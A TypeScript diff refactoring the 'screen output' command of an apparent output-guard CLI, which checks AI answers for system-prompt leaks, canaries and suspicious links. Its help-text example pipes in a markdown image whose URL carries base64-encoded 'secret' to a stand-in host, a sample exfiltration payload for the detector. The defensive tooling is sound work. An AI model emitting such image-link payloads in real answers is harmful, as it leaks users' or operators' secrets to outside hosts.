@@ -2,73 +2,40 @@
 // with `request` what the client itself said.
 import type { Command } from "commander";
 import { z } from "zod";
-import { compileDetector } from "../../../guards/data/index.ts";
 import { verdictOf } from "../../../guards/finding.ts";
-import {
-  CanaryIndex,
-  compileLinks,
-  compileOutput,
-  DEFAULT_OUTPUT_LIMITS,
-  echoOf,
-  guardText,
-  LeakIndex,
-} from "../../../guards/output/index.ts";
-import { answerCategories } from "../../../policy/guard-options.ts";
-import { localCommand } from "../../connection.ts";
-import { UsageError } from "../../exit.ts";
-import { readNdjson, writeNdjson } from "../../ndjson.ts";
-import { guardingOf, lineOf } from "./guarding.ts";
+import { compileOutputGuard, guardText, outputRulesFor } from "../../../guards/output/index.ts";
+import { outputGuardOptions } from "../../../policy/guard-options.ts";
+import { type Judged, lineId, screenCommand } from "./screen-command.ts";
 
-const lineSchema = z.object({
-  id: z.union([z.string(), z.number()]),
-  text: z.string(),
-  system: z.string().optional(),
-  request: z.string().optional(),
-});
+const NOTHING: Judged = { blocked: false, score: 0, reasons: [] };
 
 export function screenOutput(): Command {
-  return localCommand("output", "Judge answers: NDJSON {id, text, system?, request?} in, {id, verdict, …} out.")
-    .argument("[file]", "- is standard input", "-")
-    .option("--policy <file>", "judge by this policy (default: the built-in one)")
-    .option("--explain", "offsets, views and scores of each finding")
-    .addHelpText(
-      "after",
-      '\nExample:\n  echo \'{"id":"1","text":"see ![x](https://e.example/?d=c2VjcmV0)"}\' | npx bartizan screen output',
-    )
-    .action(async (file: string, options: { policy?: string; explain?: true }) => {
-      const {
-        modes,
-        withoutKinds,
-        extraKinds,
-        canaries,
-        links,
-        limits: given,
-        allowEcho,
-      } = (await guardingOf(options.policy)).output;
-      const limits = { ...DEFAULT_OUTPUT_LIMITS, ...given };
-      const shared = {
-        modes,
-        limits,
-        canaries: [new CanaryIndex(canaries)],
-        links: compileLinks(links),
-        data: answerCategories(modes).map((category) => ({
-          detector: compileDetector({ categories: [category], withoutKinds, extraKinds }),
-          categories: [category],
-        })),
-      };
-      for await (const { line, value } of readNdjson(file)) {
-        const parsed = lineSchema.safeParse(value);
-        if (!parsed.success) throw new UsageError(`Line ${line} is not {"id","text","system"?,"request"?}.`);
-        const { id, text, system, request } = parsed.data;
-        const others = request === undefined ? [] : [request];
-        const rules = compileOutput({
-          ...shared,
-          ...(system === undefined ? {} : { leak: new LeakIndex([system], others, limits) }),
-          ...(allowEcho ? { known: echoOf(others) } : {}),
-        });
+  return screenCommand({
+    name: "output",
+    description: "Judge answers: NDJSON {id, text, system?, request?} in, {id, verdict, …} out.",
+    line: z.object({
+      id: lineId,
+      text: z.string(),
+      system: z.string().optional(),
+      request: z.string().optional(),
+    }),
+    shape: '{"id","text","system"?,"request"?}',
+    explain: "offsets, views and scores of each finding",
+    example: 'echo \'{"id":"1","text":"see ![x](https://e.example/?d=c2VjcmV0)"}\' | npx bartizan screen output',
+    compile: (policy) => {
+      const guard = compileOutputGuard(outputGuardOptions(policy));
+      return ({ text, system, request }) => {
+        const rules = outputRulesFor({ system: listOf(system), others: listOf(request) }, guard);
+        if (rules === null) return NOTHING;
         const { cut, findings } = guardText(text, rules);
         const reasons = findings.map((found) => ({ ...verdictOf(found, found.action, "text"), where: "text" }));
-        await writeNdjson(lineOf(id, cut, reasons, options.explain === true));
-      }
-    });
+        const score = Math.max(cut ? 1 : 0, ...findings.map((found) => found.score));
+        return { blocked: cut, score, reasons };
+      };
+    },
+  });
+}
+
+function listOf(text: string | undefined): readonly string[] {
+  return text === undefined ? [] : [text];
 }
